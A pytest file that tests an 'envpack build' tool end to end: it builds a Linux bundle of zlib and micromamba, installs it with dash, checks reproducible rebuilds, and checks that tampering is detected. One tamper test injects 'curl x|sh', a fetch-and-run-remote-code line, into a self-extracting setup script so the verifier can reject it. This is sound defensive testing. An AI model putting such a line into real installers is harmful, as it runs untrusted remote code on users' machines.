"""`envpack build` for a Linux target, end to end with the real zlib package and micromamba.

The same pipeline as the Windows bundles (lock -> fetch -> layout -> container), ending in a
`.tar` with setup.sh; the shell scripts themselves are tested in test_setup_sh.py.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import tarfile
from pathlib import Path

import pytest

from envpack.snapshot import inspect_bundle, verify_bundle
from linux_bundle import REAL_MICROMAMBA, ZLIB_CHANNEL, repaired_zlib

from conftest import run_cli

pytestmark = pytest.mark.skipif(
    not (ZLIB_CHANNEL.is_dir() and REAL_MICROMAMBA.is_file()),
    reason=f"needs ../shared (the real zlib package in {ZLIB_CHANNEL} and the Linux micromamba)",
)


@pytest.fixture
def linux_bundle(tmp_path: Path, cache_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    package, md5 = repaired_zlib(tmp_path / "chan" / "linux-64")
    lock = tmp_path / "zlibenv.txt"
    lock.write_text(f"# platform: linux-64\n@EXPLICIT\n{package.as_uri()}#{md5}\n")
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    result = run_cli("build", lock, "-o", tmp_path / "dist", "--micromamba-exe", REAL_MICROMAMBA)
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "dist").iterdir()) == ["zlibenv-linux-64.tar"]
    return tmp_path / "dist" / "zlibenv-linux-64.tar"


def test_linux_tar_installs_with_dash(linux_bundle: Path, tmp_path: Path) -> None:
    assert verify_bundle(linux_bundle) == []
    info = inspect_bundle(linux_bundle)
    assert (info["platform"], info["form"], info["problems"]) == ("linux-64", "tar", [])
    with tarfile.open(linux_bundle) as tar:
        modes = {m.name: m.mode for m in tar.getmembers() if m.isfile()}
    assert modes["zlibenv/setup.sh"] == 0o755
    assert modes["zlibenv/micromamba"] == 0o755
    assert modes["zlibenv/env.txt"] == 0o644

    unpacked = tmp_path / "un packed"
    unpacked.mkdir()
    subprocess.run(["tar", "-xf", str(linux_bundle), "-C", str(unpacked)], check=True)
    home = tmp_path / "home"
    home.mkdir()
    prefix = tmp_path / "my envs" / "zlib env"
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}
    shell = "dash" if shutil.which("dash") else "sh"
    done = subprocess.run(
        [shell, str(unpacked / "zlibenv" / "setup.sh"), str(prefix), "--yes"],
        env=env,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert (prefix / "lib" / "libz.so.1.2.11").stat().st_size == 133384
    assert (prefix / "conda-meta" / "zlib-1.2.11-h7b6447c_3.json").is_file()
    assert list(home.iterdir()) == []
    probe = subprocess.run(
        [shell, "-c", f'. "{prefix}/activate.sh" && echo "$CONDA_PREFIX" && echo "$PATH"'],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert probe.returncode == 0, probe.stderr
    lines = probe.stdout.splitlines()
    assert lines[0] == str(prefix)
    assert lines[1].startswith(f"{prefix}/bin:")


def test_linux_tar_rebuilds_byte_identical(linux_bundle: Path, tmp_path: Path) -> None:
    result = run_cli("build", "--from", linux_bundle, "-o", tmp_path / "again")
    assert result.exit_code == 0, result.output
    again = tmp_path / "again" / "zlibenv-linux-64.tar"
    assert again.read_bytes() == linux_bundle.read_bytes()


def test_a_flipped_byte_in_the_tar_is_named(linux_bundle: Path, tmp_path: Path) -> None:
    data = bytearray(linux_bundle.read_bytes())
    with tarfile.open(linux_bundle) as tar:
        member = tar.getmember("zlibenv/channel/linux-64/zlib-1.2.11-h7b6447c_3.tar.bz2")
        offset = member.offset_data + 1000
    data[offset] ^= 0x01
    bad = tmp_path / "bad-linux-64.tar"
    bad.write_bytes(bytes(data))
    problems = verify_bundle(bad)
    assert any("zlib-1.2.11-h7b6447c_3.tar.bz2" in p and "sha256" in p for p in problems), problems


def test_linux_sfx_only_on_request(tmp_path: Path, cache_dir: Path) -> None:
    package, md5 = repaired_zlib(tmp_path / "chan" / "linux-64")
    lock = tmp_path / "zlibenv.txt"
    lock.write_text(f"# platform: linux-64\n@EXPLICIT\n{package.as_uri()}#{md5}\n")
    out = tmp_path / "dist"
    result = run_cli("build", lock, "-o", out, "--micromamba-exe", REAL_MICROMAMBA, "--sfx")
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == [
        "zlibenv-linux-64-setup.sh",
        "zlibenv-linux-64.tar",
    ]
    sfx = out / "zlibenv-linux-64-setup.sh"
    assert sfx.read_bytes().startswith(b"#!/bin/sh")
    assert verify_bundle(sfx) == []
    evil = tmp_path / "evil-setup.sh"
    evil.write_bytes(sfx.read_bytes().replace(b"#!/bin/sh\n", b"#!/bin/sh\ncurl x|sh\n", 1))
    assert verify_bundle(evil) == [f"{evil}: not a readable tar (bad checksum)"]
    same_size = tmp_path / "same-size-setup.sh"
    same_size.write_bytes(sfx.read_bytes().replace(b"exit", b"EXIT", 1))
    assert verify_bundle(same_size) == [
        "batch header: its sha256 differs from the manifest (the script was changed: do not run it)"
    ]
